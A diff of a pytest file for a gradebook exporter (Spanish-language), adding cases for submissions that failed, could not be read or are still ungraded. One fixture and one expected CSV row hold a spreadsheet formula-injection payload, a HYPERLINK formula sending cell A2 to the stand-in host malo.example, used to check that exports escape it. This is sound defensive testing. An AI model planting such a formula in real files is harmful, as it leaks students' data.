@@ -27,6 +27,8 @@ ana,Ana Núñez,2026-A,1,rural,false
 luis,"{FORMULA.replace('"', '""')}",2026-A,2,urban,false
 eva,Eva,2026-A,1,urban,true
 zoe,Zoe,2026-A,,urban,false
+rosa,Rosa,2026-A,,urban,false
+iris,Iris,2026-A,,rural,false
 """
 HANDED_IN = datetime(2026, 3, 2, 10, 0)
 
@@ -40,6 +42,8 @@ def made(tmp_path_factory):
     (root / "modules").mkdir()
     (root / "modules" / "curriculum.yml").write_text("modules: []\n", encoding="utf-8")
     (home / "roster.csv").write_text(ROSTER, encoding="utf-8")
+    (home / "submitted" / "eva" / SECOND).mkdir(parents=True)
+    (home / "submitted" / "iris" / FIRST).mkdir(parents=True)
     with pytest.MonkeyPatch.context() as patch:
         patch.setenv("CIBERAULA_COURSE", str(root))
         patch.setenv("CIBERAULA_HOME", str(home))
@@ -70,7 +74,21 @@ def made(tmp_path_factory):
         }
         change |= {"reason": "+ la pregunta era ambigua", "made_at": datetime(2026, 3, 5, 9, 30)}
         connection.execute(ledger.overrides.insert().values(**change))
+        attempt(connection, FIRST, "rosa", 1, "failed", "el cuaderno está dañado")
+        attempt(connection, FIRST, "ana", 1, "graded")
+        attempt(connection, FIRST, "ana", 2, "failed", "la entrega no trae el cuaderno de la tarea")
+        attempt(connection, FIRST, "eva", 1, "failed", "el cuaderno está dañado")
+        attempt(connection, FIRST, "eva", 2, "graded")
+        attempt(connection, SECOND, "ana", 1, "not_gradable", "p01: La hoja de respuestas no se puede leer.")
+        attempt(connection, SECOND, "eva", 1, "not_gradable", "p01: ya tiene puntos a mano")
     return root
+
+
+def attempt(connection, assignment, student, number, state, reason=None):
+    row = {"assignment": assignment, "student": student, "number": number, "state": state, "reason": reason}
+    row |= {"signature": "s", "digest": f"d{number}", "key": "k", "receipt": "", "counts": state != "failed"}
+    row |= {"submitted_at": HANDED_IN, "graded_at": datetime(2026, 3, 3, number)}
+    connection.execute(ledger.attempts.insert().values(**row))
 
 
 def hand_in(book, assignment, student, *scores, penalty=0.0):
@@ -112,8 +130,23 @@ def test_marks_are_final_or_wait_or_are_not_there(home):
     assert (luis.state, luis.points, luis.waiting) == ("waiting", 1.5, 1)
     assert (luis.shown(partial=False), luis.shown(partial=True)) == (None, 1.5)
     assert (eva.state, eva.earned, eva.points) == ("final", 1, 0)  # a penalty takes no more than there is
-    assert (table.mark("ana", SECOND).points, table.mark("ana", SECOND).state) == (None, "waiting")
+    assert (table.mark("ana", SECOND).points, table.mark("ana", SECOND).state) == (None, "unread")
     assert table.mark("zoe", FIRST).state == "absent"
+
+
+def test_what_could_not_be_graded_is_a_state_of_its_own(home):
+    with Gradebook(f"sqlite:///{home / 'gradebook.db'}", COURSE_ID) as book:
+        table = read_marks(book)
+    rosa, ana = table.mark("rosa", FIRST), table.mark("ana", SECOND)
+    assert (rosa.state, rosa.points, rosa.reason) == ("failed", None, "el cuaderno está dañado")
+    assert rosa.submitted_at == HANDED_IN.replace(tzinfo=UTC)
+    assert (ana.state, ana.waiting, ana.unread) == ("unread", 1, 1)
+    assert ana.reason == "p01: La hoja de respuestas no se puede leer."
+    assert table.mark("iris", FIRST).state == "ungraded"
+    # Marks of an earlier work that still count, one that was graded since, and one that a person gave points to.
+    assert table.mark("ana", FIRST).state == "final"
+    assert table.mark("ana", FIRST).reason.startswith("vale una entrega anterior; la última no se pudo calificar: la")
+    assert (table.mark("eva", FIRST).reason, table.mark("eva", SECOND).reason) == ("", "")
     assert table.strangers == ["ajena"]
 
 
@@ -125,11 +158,20 @@ def test_moodle(home, tmp_path):
         "ana,Ana Núñez,4.45,-\r\n"
         'luis,"\'=HYPERLINK(""https://malo.example/?""&A2,""Ana"")",-,-\r\n'
         "eva,Eva (persona simulada),0,4\r\n"
+        "rosa,Rosa,-,-\r\n"
+        "iris,Iris,-,-\r\n"
     )
     assert (tmp_path / "notas.csv").stat().st_mode & 0o777 == 0o600
     assert told[0].endswith("notas.csv: 3 notas. Tiene nombres y notas: guárdelo donde solo usted pueda leerlo.")
-    assert told[1].startswith("2 notas quedan en blanco: algo espera")
-    assert told[2].endswith("no salen en el archivo: ajena.")
+    assert told[1:] == (
+        f"En blanco: 2 respuestas de 2 entregas esperan a una persona: ana ({SECOND}), luis ({FIRST}).",
+        f"En blanco: 1 respuesta de 1 entrega no se pudo leer: ana ({SECOND}).",
+        f"En blanco: 1 entrega no se pudo calificar: rosa ({FIRST}).",
+        f"En blanco: 1 entrega está sin calificar: iris ({FIRST}).",
+        f"Vale la entrega anterior: 1 entrega no se pudo calificar: ana ({FIRST}).",
+        "Con --partial salen también las notas parciales.",
+        "Entregaron y no están en la lista de participantes, así que no salen en el archivo: ajena.",
+    )
 
 
 def test_canvas(home, tmp_path):
@@ -150,7 +192,7 @@ def test_canvas(home, tmp_path):
 def test_partial_marks_go_out_when_asked_for(home, tmp_path):
     told = exported(home, MoodleExport, tmp_path / "notas.csv", partial=True, student=["luis", "ana"])
     assert [row[2:] for row in cells(tmp_path / "notas.csv")[1:]] == [["4.45", "-"], ["1.5", "-"]]
-    assert told[1].startswith("2 notas son parciales")
+    assert told[1] == f"Nota parcial: 2 respuestas de 2 entregas esperan a una persona: ana ({SECOND}), luis ({FIRST})."
 
 
 def test_the_workbook(home, tmp_path):
@@ -162,7 +204,7 @@ def test_the_workbook(home, tmp_path):
         *("Identificador", "Nombre", "Cohorte", "Grupo", "Persona simulada"),
         *(f"{FIRST} (de 5)", f"{SECOND} (de 4)"),
     ]
-    assert (marks.freeze_panes, marks["A1"].font.bold, marks.auto_filter.ref) == ("C2", True, "A1:G5")
+    assert (marks.freeze_panes, marks["A1"].font.bold, marks.auto_filter.ref) == ("C2", True, "A1:G7")
     assert [cell.value for cell in marks[2]] == ["ana", "Ana Núñez", "2026-A", "1", "no", 4.45, None]
     assert (marks["F2"].data_type, marks["F2"].number_format) == ("n", "0.00")
     assert [cell.value for cell in marks[4]][4:] == ["sí", 0, 4]
@@ -172,9 +214,17 @@ def test_the_workbook(home, tmp_path):
     assert (ana["Puntos sin descuento"], ana["Descuento por atraso"], ana["Puntos"]) == (4.55, 0.1, 4.45)
     assert ana["Entregada (UTC)"] == pd.Timestamp(HANDED_IN)
     assert ana["Proporción"] == pytest.approx(0.89)
-    assert set(detail["Estado"]) == {"completa", "espera que una persona califique", "sin entregar"}
+    states = {(row["Identificador"], row["Tarea"]): row["Estado"] for _index, row in detail.iterrows()}
+    assert states["luis", FIRST] == "espera a una persona"
+    assert states["ana", SECOND] == "algo no se pudo leer"
+    assert states["rosa", FIRST] == "entregada, no se pudo calificar"
+    assert states["iris", FIRST] == "entregada, sin calificar todavía"
+    assert (states["zoe", FIRST], states["ana", FIRST]) == ("sin entregar", "completa")
+    rosa = detail[(detail["Identificador"] == "rosa") & (detail["Tarea"] == FIRST)].iloc[0]
+    assert (rosa["Qué pasó"], rosa["Entregada (UTC)"]) == ("el cuaderno está dañado", pd.Timestamp(HANDED_IN))
+    assert rosa[["Puntos", "Puntos sin descuento", "Preguntas que esperan a una persona"]].isna().all()
     about = dict(book["Acerca de"].iter_rows(min_row=2, values_only=True))
-    assert about["Simulación"] == "1 de 4 son personas simuladas para practicar: no existen."
+    assert about["Simulación"] == "1 de 6 son personas simuladas para practicar: no existen."
     assert about["Fuera de la lista de participantes"] == "ajena"
 
 
@@ -227,7 +277,15 @@ def test_the_command_writes_where_it_says(home, tmp_path, capsys):
         ([FIRST, "--student", "nadie"], "nadie no está en la lista de participantes: revise cómo se escribe."),
         ([], "Indique qué tareas exportar, o --all para todas."),
         ([FIRST, "--all"], "Indique qué tareas exportar, o --all para todas."),
-        ([FIRST, "--output", "falta/notas.csv"], "No se pudo guardar falta/notas.csv: no existe; revise la ruta."),
+        ([FIRST, "--output", "falta/notas.xlsx"], "No se pudo guardar falta/notas.xlsx: no existe; revise la ruta."),
+        (
+            [FIRST, "--output", "notas.txt"],
+            "notas.txt no termina en .xlsx, y el formato xlsx es un archivo .xlsx: cambie el nombre, o el formato con --format.",
+        ),
+        (
+            [FIRST, "--format", "moodle", "--output", "notas.XLSX"],
+            "notas.XLSX no termina en .csv, y el formato moodle es un archivo .csv: cambie el nombre, o el formato con --format.",
+        ),
     ],
 )
 def test_what_is_wrong_is_one_line_and_no_file(home, tmp_path, monkeypatch, capsys, words, told):
